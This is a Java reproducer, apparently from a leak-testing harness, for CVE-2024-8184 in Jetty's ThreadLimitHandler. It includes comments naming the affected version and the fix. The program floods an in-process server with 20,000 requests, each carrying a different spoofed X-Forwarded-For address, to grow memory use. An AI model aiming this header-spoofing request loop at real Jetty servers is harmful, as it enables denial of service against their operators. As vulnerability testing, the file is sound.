// report  CVE-2024-8184
// leaks   org.eclipse.jetty:jetty-server:9.4.54.v20240208
// mended  use: another handler
// java    17
// class   org.eclipse.jetty.server.handler.ThreadLimitHandler$Remote
// number  20000
// holder  ThreadLimitHandler\b(?!\$)|_remotes\b
// reason  (?i)one for each|names made|differ only in|addresses
// change  use QoSHandler, or do not take the address from a header
package leaks;

import org.eclipse.jetty.server.LocalConnector;
import org.eclipse.jetty.server.Server;
import org.eclipse.jetty.server.handler.DefaultHandler;
import org.eclipse.jetty.server.handler.ThreadLimitHandler;

public final class JettyCve20248184 {
    public static void main(String[] args) throws Exception {
        Server server = new Server();
        LocalConnector connector = new LocalConnector(server);
        server.addConnector(connector);
        ThreadLimitHandler limit = new ThreadLimitHandler("X-Forwarded-For", false);
        limit.setThreadLimit(5);
        limit.setHandler(new DefaultHandler());
        server.setHandler(args.length > 0 ? new DefaultHandler() : limit);
        server.start();
        for (int i = 0; i < 20_000; i++) {
            String address = "10." + (i >> 16) + "." + (i >> 8 & 255) + "." + (i & 255);
            connector.getResponse("GET / HTTP/1.1\r\nHost: h\r\nX-Forwarded-For: " + address + "\r\nConnection: close\r\n\r\n");
        }
    }
}
